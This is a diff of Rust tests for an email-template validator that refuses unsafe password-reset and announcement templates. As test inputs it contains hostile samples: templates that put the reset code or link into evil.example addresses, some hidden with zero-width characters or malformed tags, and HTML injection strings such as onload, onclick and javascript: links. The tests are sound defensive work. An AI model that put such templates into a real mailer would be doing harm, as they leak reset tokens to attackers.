@@ -69,14 +69,16 @@ fn a_template_that_cannot_be_filled_safely_is_refused_with_the_reason() {
     let expected = "text: it has no placeholder `token`: this letter knows `product`, `company`, `name`, `subject`, `text`";
     assert_eq!(unknown, expected);
     assert_eq!(refused(Announcement, "{{name", None), "text: it has a `{{` without its `}}`");
-    assert!(refused(PasswordReset, "Hello", None).contains("neither `{{link}}` nor `{{code}}`"));
+    for (text, html) in [("Hello {{code}}", None), ("{{link}}", Some("<p>{{code}}</p>"))] {
+        assert!(refused(PasswordReset, text, html).contains("does not say `{{link}}`"), "{text}");
+    }
     for html in [
         "<a href={{name}}>",
-        "<a title=\"{{name}}\">",
+        "<a title=\"{{name}}\">x</a>",
         "<a href='{{text}}'>",
-        "<a title='>' {{name}}>",
-        "<a title=\">\" {{name}}>",
-        "<{{name}}>",
+        "<a {{name}}>",
+        "<a title=\"x\" {{name}}>",
+        "<img src=\"https://a.example/{{name}}\">",
     ] {
         assert!(refused(Announcement, "ok", Some(html)).contains("inside a tag"), "{html}");
     }
@@ -87,16 +89,108 @@ fn a_template_that_cannot_be_filled_safely_is_refused_with_the_reason() {
         "<form action=x>",
         "<style>{{text}}</style>",
         "<svg/onload=x>",
+        "<!-- all that follows",
+        "<textarea>",
+        "<video src=\"https://a.example\">",
+        "<{{name}}>",
+        "1 < 2",
     ] {
         assert!(refused(Announcement, "ok", Some(html)).contains("letters carry"), "{html}");
     }
+    for html in [
+        "<p onclick=\"x\">a</p>",
+        "<p style=\"display: none\">a</p>",
+        "<a href=\"javascript:x\">a</a>",
+        "<img src=\"http://a.example/a.png\">",
+    ] {
+        assert!(refused(Announcement, "ok", Some(html)).contains("is not allowed"), "{html}");
+    }
+    for html in
+        ["<p", "<a href=x\"><img title=\">\" src=https://a.example>", "<p title='x'>", "<p title=\">\">"]
+    {
+        assert!(refused(Announcement, "ok", Some(html)).contains("is no tag"), "{html}");
+    }
+    for html in ["<p>", "</p>", "<b><i>x</b></i>", "</div></main>"] {
+        let refused = refused(Announcement, "ok", Some(html));
+        assert!(
+            refused.contains("order in which they began") || refused.contains("letters carry"),
+            "{html}: {refused}"
+        );
+    }
+}
+
+#[test]
+fn what_lets_a_reader_in_becomes_no_part_of_somebody_elses_address() {
+    for text in [
+        "https://evil.example/?{{code}} {{link}}",
+        "{{link}}.evil.example",
+        "{{name}}{{code}} {{link}}",
+        "{{link}}{{code}}",
+        "({{code}}) {{link}}",
+        "{{link}} https://evil.example/?\u{200b}{{code}}",
+    ] {
+        assert!(refused(LetterKind::PasswordReset, text, None).contains("touches other text"), "{text}");
+    }
+    for html in [
+        "{{link}} https://evil.example/?{{code}}",
+        "{{link}} https://evil.example/?<b>{{code}}</b>",
+        "{{link}} https://evil.example/?<b></b>{{code}}",
+        "{{link}} <code>{{code}}</code>.evil.example",
+        "{{link}} https://evil.example/?<img src=\"https://a.example\">{{code}}",
+    ] {
+        assert!(refused(LetterKind::PasswordReset, "{{link}}", Some(html)).contains("touches"), "{html}");
+    }
+    for html in [
+        "{{link}} https://evil.example/?<table>{{code}}</table>",
+        "{{link}} https://evil.example/?<table><tr><b>{{code}}</b></tr></table>",
+        "{{link}} https://evil.example/?<td>{{code}}</td>",
+        "{{link}} https://evil.example/?<tr><td>{{code}}</td></tr>",
+    ] {
+        assert!(
+            refused(LetterKind::PasswordReset, "{{link}}", Some(html)).contains("a table has none"),
+            "{html}"
+        );
+    }
+    for html in [
+        "<a href=\"https://evil.example/?{{link}}\">x</a>",
+        "<a href=\"https://evil.example/?{{code}}\">x</a>",
+        "<img src=\"{{link}}\">",
+        "<a title=\"{{link}}\">x</a>",
+    ] {
+        assert!(
+            refused(LetterKind::PasswordReset, "{{link}}", Some(html)).contains("inside a tag"),
+            "{html}"
+        );
+    }
+    let hidden = "<a href=x\"><img title=\">\" src=https://evil.example/?{{code}}>";
+    assert!(refused(LetterKind::PasswordReset, "{{link}}", Some(hidden)).contains("is no tag"));
     let good = LetterTemplate {
-        kind: PasswordReset,
+        kind: LetterKind::PasswordReset,
         subject: "{{ company }}".into(),
-        text: "{{link}}".into(),
-        html: Some("<formula><a title=\"x\" href=\"{{link}}\">{{name}}</a>".into()),
+        text: "Here:\n{{link}}\nor {{code}}\n".into(),
+        html: Some(
+            "<table><tr><td><a class=\"button\" title=\"x\" href=\"{{ link }}\">{{name}}</a><br/><td></td></tr></table>"
+                .replace("<br/><td></td>", "<br/></td><td>{{code}}</td>"),
+        ),
     };
     assert_eq!(check(&good), Ok(()));
+    let look = Look { templates: vec![good], ..look() };
+    let letter = write(LetterKind::PasswordReset, LetterLanguage::English, &look, hostile).unwrap();
+    let link = "href=\"https://tracker.example.com/password-reset#token=mot_1\">&lt;b&gt;";
+    assert!(letter.html.contains(link), "{}", letter.html);
+}
+
+#[test]
+fn words_that_were_taken_under_former_rules_leave_the_built_in_ones() {
+    let former = LetterTemplate {
+        kind: LetterKind::PasswordReset,
+        subject: "S".into(),
+        text: "https://evil.example/?{{code}}".into(),
+        html: None,
+    };
+    let look = Look { templates: vec![former], ..look() };
+    let letter = write(LetterKind::PasswordReset, LetterLanguage::English, &look, hostile).unwrap();
+    assert!(!letter.text.contains("evil.example"), "{}", letter.text);
 }
 
 #[test]
